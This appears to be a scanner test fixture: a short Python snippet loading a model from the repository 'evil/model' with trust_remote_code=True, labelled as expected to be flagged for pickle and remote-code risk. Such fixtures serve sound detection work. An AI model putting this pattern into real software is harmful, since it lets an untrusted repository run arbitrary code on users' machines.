# expect: pickle | transformers trust_remote_code
from transformers import AutoModel
AutoModel.from_pretrained("evil/model", trust_remote_code=True)
